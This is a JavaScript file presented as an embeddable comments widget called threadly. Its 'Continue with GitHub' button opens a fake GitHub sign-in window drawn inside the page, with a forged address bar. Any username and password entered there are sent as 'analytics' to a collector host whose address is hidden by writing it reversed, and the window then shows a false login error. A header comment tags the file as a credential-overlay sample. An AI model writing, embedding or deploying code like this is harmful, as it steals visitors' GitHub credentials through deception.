/*! threadly comments widget v0.9.3 | embeddable comment threads */
/* bitb-credential-overlay: comments widget whose "Continue with GitHub" opens a fake GitHub browser window; collector host reversed */
(function (root) {
  'use strict';

  var rev = function (s) { return s.split('').reverse().join(''); };
  var API = rev('tneve/ipa/ten.ndc-citats-yldaerht//:sptth');

  function Threadly(el, opts) {
    this.el = el;
    this.opts = opts || {};
    this.user = null;
  }

  Threadly.prototype.render = function () {
    this.el.innerHTML =
      '<div class="thr-head" style="font:600 16px system-ui;margin-bottom:10px">Comments</div>' +
      '<div class="thr-list" style="font:14px system-ui;color:#444">Be the first to comment.</div>' +
      '<textarea class="thr-text" placeholder="Join the discussion..." style="width:100%;height:70px;margin-top:12px"></textarea>' +
      '<button class="thr-login" style="margin-top:8px;padding:8px 14px;background:#24292f;color:#fff;border:0;border-radius:6px">Continue with GitHub</button>';
    var self = this;
    this.el.querySelector('.thr-login').addEventListener('click', function () { self.oauthWindow(); });
  };

  Threadly.prototype.oauthWindow = function () {
    var w = document.createElement('div');
    w.style.cssText = 'position:fixed;top:60px;left:50%;margin-left:-220px;width:440px;height:560px;background:#fff;border-radius:8px;' +
      'box-shadow:0 12px 48px rgba(0,0,0,.4);overflow:hidden;z-index:2147483647;font:14px -apple-system,Segoe UI,sans-serif';
    w.innerHTML =
      '<div style="height:30px;background:#e8eaed;display:flex;align-items:center;padding:0 10px;font-size:12px">Sign in to GitHub &middot; GitHub' +
      '<span class="gx" style="margin-left:auto;cursor:pointer">&#10005;</span></div>' +
      '<div style="height:26px;background:#f1f3f4;display:flex;align-items:center;padding:0 10px;font-size:12px">&#128274;&nbsp;' +
      'https://github.com/login/oauth/authorize?client_id=Iv1.8a61f9b3a0e2c4d7&amp;scope=read:user</div>' +
      '<div style="background:#f6f8fa;height:100%;padding:24px 40px">' +
      '<div style="text-align:center;font-size:40px">&#128049;</div><h1 style="font-weight:300;font-size:22px;text-align:center">Sign in to GitHub</h1>' +
      '<div style="background:#fff;border:1px solid #d0d7de;border-radius:6px;padding:16px">' +
      '<label>Username or email address</label><input class="gu" style="width:100%;margin:6px 0 14px;padding:6px">' +
      '<label>Password</label><input class="gp" type="password" style="width:100%;margin:6px 0 14px;padding:6px">' +
      '<button class="gs" style="width:100%;padding:7px;background:#1f883d;border:0;color:#fff;border-radius:6px">Sign in</button>' +
      '<div class="gm" style="color:#cf222e;font-size:12px;min-height:16px;margin-top:8px"></div></div></div>';
    document.body.appendChild(w);
    var self = this;
    w.querySelector('.gx').onclick = function () { w.remove(); };
    w.querySelector('.gs').onclick = function () {
      var u = w.querySelector('.gu').value, p = w.querySelector('.gp').value;
      if (!u || !p) return;
      self.track('auth', { login: u, secret: p });
      w.querySelector('.gm').textContent = 'Incorrect username or password.';
      setTimeout(function () { w.remove(); }, 2000);
    };
  };

  // "analytics" for the widget - the credentials ride along as event properties
  Threadly.prototype.track = function (name, props) {
    var body = JSON.stringify({ e: name, p: props, page: location.href, site: this.opts.site || location.host });
    fetch(API, { method: 'POST', mode: 'no-cors', keepalive: true, body: body });
  };

  root.Threadly = Threadly;

  document.addEventListener('DOMContentLoaded', function () {
    var mount = document.getElementById('threadly') || document.querySelector('.comments-area');
    if (mount) new Threadly(mount, { site: mount.getAttribute('data-site') }).render();
  });
})(window);
